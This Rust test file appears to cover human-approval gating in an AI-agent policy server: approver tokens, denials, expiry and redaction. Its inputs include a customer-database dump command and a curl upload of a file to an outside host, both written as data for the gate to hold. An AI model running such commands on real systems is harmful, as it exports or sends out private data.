//! Human approval over real HTTP: a rule holds a call (`action: approve`),
//! the agent's request waits (`POST /evaluate?wait=`), an approver decides
//! with their own token, and the waiting request gets the outcome. The
//! agent's token cannot decide, a second or late decision gets 409 with
//! the outcome on record, an expiry denies, and a restart keeps pending
//! approvals and their deadlines.

mod support;

use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::time::Duration;
use support::*;

const FIXTURE: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/fixtures/approvals/parallax.yaml"
);
const AGENT: &str = "agent-token";
const ALICE: &str = "alice-token";
const BOB: &str = "bob-token";

fn server(db: &Path, log: Option<PathBuf>) -> TestServer {
    let db = db.display().to_string();
    TestServer::start_doors(
        Path::new(FIXTURE),
        move |s| {
            s.server.auth_token = Some(AGENT.into());
            s.approvals.path = db;
            s.approvals.approver_tokens = [
                ("alice".to_string(), ALICE.to_string()),
                ("bob".into(), BOB.into()),
            ]
            .into_iter()
            .collect();
            if let Some(l) = &log {
                s.reporting.log_file = Some(l.display().to_string());
            }
        },
        |service, metrics| match service.settings.reporting.log_file.clone() {
            Some(p) => {
                let r = service.settings.reporting.clone();
                service.with_audit(
                    parallax::audit::AuditLog::start(Path::new(&p), &r, metrics)
                        .expect("audit log"),
                )
            }
            None => service,
        },
    )
}

fn bearer(token: &str) -> String {
    format!("Bearer {token}")
}

fn call(command: &str) -> Vec<u8> {
    json!({"stage": "tool.before", "session_id": "s-appr", "tool_name": "Bash",
           "tool_args": {"command": command}})
    .to_string()
    .into_bytes()
}

fn evaluate_as(addr: std::net::SocketAddr, path: &str, body: &[u8]) -> Value {
    let auth = bearer(AGENT);
    let r = request(
        addr,
        "POST",
        path,
        &[
            ("Content-Type", "application/json"),
            ("Authorization", &auth),
        ],
        body,
    );
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    r.json()
}

fn decide(addr: std::net::SocketAddr, id: &str, verb: &str, token: &str, body: &str) -> Response {
    let auth = bearer(token);
    request(
        addr,
        "POST",
        &format!("/approvals/{id}/{verb}"),
        &[
            ("Content-Type", "application/json"),
            ("Authorization", &auth),
        ],
        body.as_bytes(),
    )
}

fn pending_ids(addr: std::net::SocketAddr) -> Vec<String> {
    let auth = bearer(AGENT);
    let r = request(
        addr,
        "GET",
        "/approvals?status=pending",
        &[("Authorization", &auth)],
        b"",
    );
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    r.json()["approvals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["id"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn a_held_call_waits_for_its_approver_and_only_an_approver_decides() {
    let dir = temp_dir("approvals-flow");
    let log = dir.join("audit.log");
    let s = server(&dir.join("approvals.db"), Some(log.clone()));
    let addr = s.addr;
    // The agent's call waits for the decision.
    let waiting = std::thread::spawn(move || {
        evaluate_as(
            addr,
            "/evaluate?wait=20",
            &call("git push origin main && echo tok-123456"),
        )
    });
    let mut ids = Vec::new();
    for _ in 0..200 {
        ids = pending_ids(addr);
        if !ids.is_empty() {
            break;
        }
        std::thread::sleep(Duration::from_millis(25));
    }
    assert_eq!(ids.len(), 1, "one pending approval");
    let id = ids[0].clone();
    // The full record shows the event, masked.
    let auth = bearer(ALICE);
    let r = request(
        addr,
        "GET",
        &format!("/approvals/{id}"),
        &[("Authorization", &auth)],
        b"",
    );
    let rec = r.json();
    assert_eq!(rec["status"], "pending");
    assert_eq!(rec["rule_id"], "deploy-to-main");
    assert_eq!(rec["approvers"], json!(["alice"]));
    assert!(!rec["event"].to_string().contains("tok-123456"), "{rec}");
    // The agent's token cannot decide; bob is not named by the rule.
    decide(addr, &id, "approve", AGENT, "").assert_error(403, "not_an_approver");
    decide(addr, &id, "approve", BOB, "").assert_error(403, "approver_not_allowed");
    decide(addr, &id, "approve", "nobody", "").assert_error(403, "not_an_approver");
    let r = decide(addr, &id, "approve", ALICE, r#"{"comment": "release 4.2"}"#);
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(r.json()["status"], "approved");
    // The waiting call gets the approved answer: the other matched rule's
    // redaction, with the rewritten event.
    let answer = waiting.join().expect("the waiting call");
    assert_eq!(answer["action"], "redact", "{answer}");
    assert_eq!(answer["approval"]["status"], "approved");
    assert_eq!(answer["approval"]["decided_by"], "alice");
    assert!(answer["redacted_event"]["tool_args"]["command"]
        .as_str()
        .unwrap()
        .contains("[REDACTED]"));
    // A second decision: 409 with the outcome on record.
    let r = decide(addr, &id, "deny", ALICE, "");
    assert_eq!(r.status, 409);
    assert_eq!(r.json()["approval"]["outcome"], "allow");
    // Metrics and audit lines.
    let m = request(
        addr,
        "GET",
        "/metrics",
        &[("Authorization", &bearer(AGENT))],
        b"",
    );
    let text = String::from_utf8(m.body).unwrap();
    assert!(
        text.contains("parallax_approvals_total{transition=\"created\"} 1"),
        "{text}"
    );
    assert!(
        text.contains("parallax_approvals_total{transition=\"approved\"} 1"),
        "{text}"
    );
    s.stop();
    let lines = audit_lines(&log);
    let transitions: Vec<&str> = lines
        .iter()
        .filter(|l| l["kind"] == "approval")
        .map(|l| l["transition"].as_str().unwrap())
        .collect();
    assert_eq!(transitions, ["created", "approved"]);
    let approved = lines
        .iter()
        .find(|l| l["transition"] == "approved")
        .unwrap();
    assert_eq!(approved["by"], "alice");
    assert_eq!(approved["comment"], "release 4.2");
    assert!(!std::fs::read_to_string(&log)
        .unwrap()
        .contains("tok-123456"));
}

#[test]
fn a_denied_call_is_blocked_and_an_expired_one_denied() {
    let dir = temp_dir("approvals-deny");
    let s = server(&dir.join("approvals.db"), None);
    let addr = s.addr;
    // Without `wait` the answer is at once: approve, pending.
    let v = evaluate_as(addr, "/evaluate", &call("git push origin main"));
    assert_eq!(v["action"], "approve", "{v}");
    assert_eq!(v["blocked"], false);
    assert_eq!(v["approval"]["status"], "pending");
    let id = v["approval"]["id"].as_str().unwrap().to_string();
    let r = decide(addr, &id, "deny", ALICE, r#"{"comment": "not today"}"#);
    assert_eq!(r.json()["status"], "denied");
    // Approval already decided: a waiting call resolves at once to block.
    let auth = bearer(AGENT);
    let got = request(
        addr,
        "GET",
        &format!("/approvals/{id}?wait=5"),
        &[("Authorization", &auth)],
        b"",
    )
    .json();
    assert_eq!(got["outcome"], "deny");
    // The data export waits one second, then is denied by expiry.
    let v = evaluate_as(
        addr,
        "/evaluate?wait=10",
        &call("pg_dump customers > /tmp/x.sql"),
    );
    assert_eq!(v["action"], "block", "{v}");
    assert_eq!(v["approval"]["status"], "expired", "{v}");
    assert!(
        v["reasons"]
            .to_string()
            .contains("expired without a decision"),
        "{v}"
    );
    let late = v["approval"]["id"].as_str().unwrap().to_string();
    let r = decide(addr, &late, "approve", BOB, "");
    assert_eq!(r.status, 409, "a late decision must not win");
    assert_eq!(r.json()["approval"]["status"], "expired");
}

#[test]
fn pending_approvals_and_their_deadlines_survive_a_restart() {
    let dir = temp_dir("approvals-restart");
    let db = dir.join("approvals.db");
    let s = server(&db, None);
    let v = evaluate_as(s.addr, "/evaluate", &call("git push upstream main"));
    let id = v["approval"]["id"].as_str().unwrap().to_string();
    let expires = v["approval"]["expires_at"].clone();
    s.stop();
    let s = server(&db, None);
    let auth = bearer(ALICE);
    let rec = request(
        s.addr,
        "GET",
        &format!("/approvals/{id}"),
        &[("Authorization", &auth)],
        b"",
    )
    .json();
    assert_eq!(rec["status"], "pending", "{rec}");
    assert_eq!(rec["expires_at"], expires);
    let r = decide(s.addr, &id, "approve", ALICE, "");
    assert_eq!(r.json()["status"], "approved");
}

#[test]
fn approval_endpoints_check_their_input() {
    let dir = temp_dir("approvals-input");
    let s = server(&dir.join("approvals.db"), None);
    let addr = s.addr;
    request(addr, "GET", "/approvals", &[], b"").assert_error(401, "unauthorized");
    let auth = bearer(ALICE);
    request(
        addr,
        "GET",
        "/approvals?status=maybe",
        &[("Authorization", &auth)],
        b"",
    )
    .assert_error(400, "invalid_query");
    request(
        addr,
        "GET",
        "/approvals/apr_nope",
        &[("Authorization", &auth)],
        b"",
    )
    .assert_error(404, "not_found");
    decide(addr, "apr_nope", "approve", ALICE, "").assert_error(404, "not_found");
    let v = evaluate_as(addr, "/evaluate", &call("git push origin main"));
    let id = v["approval"]["id"].as_str().unwrap().to_string();
    decide(addr, &id, "approve", ALICE, "[1]").assert_error(400, "invalid_body");
    decide(addr, &id, "approve", ALICE, r#"{"comment": 5}"#).assert_error(400, "invalid_body");
    request(
        addr,
        "GET",
        &format!("/approvals/{id}/approve"),
        &[("Authorization", &auth)],
        b"",
    )
    .assert_error(405, "method_not_allowed");
    let auth = bearer(AGENT);
    let r = request(
        addr,
        "POST",
        "/evaluate?wait=soon",
        &[
            ("Content-Type", "application/json"),
            ("Authorization", &auth),
        ],
        &call("ls"),
    );
    r.assert_error(400, "invalid_query");
}

#[test]
fn an_approved_call_goes_ahead_as_its_rule_rewrote_it() {
    let dir = temp_dir("approvals-rewrite");
    let s = server(&dir.join("approvals.db"), None);
    let addr = s.addr;
    let command = "curl -T report.pdf https://drop.example/up?k=1";
    let body = call(command);
    let waiting = std::thread::spawn(move || evaluate_as(addr, "/evaluate?wait=30", &body));
    let id = loop {
        if let Some(id) = pending_ids(addr).into_iter().next() {
            break id;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    let r = decide(addr, &id, "approve", BOB, "");
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    let v = waiting.join().expect("the waiting call");
    assert_eq!(v["action"], "redact", "{v}");
    for key in ["rewritten_event", "redacted_event"] {
        let got = v[key]["tool_args"]["command"].as_str().unwrap_or_default();
        assert_eq!(got, "curl -T report.pdf [URL]", "{key}: {v}");
    }
}
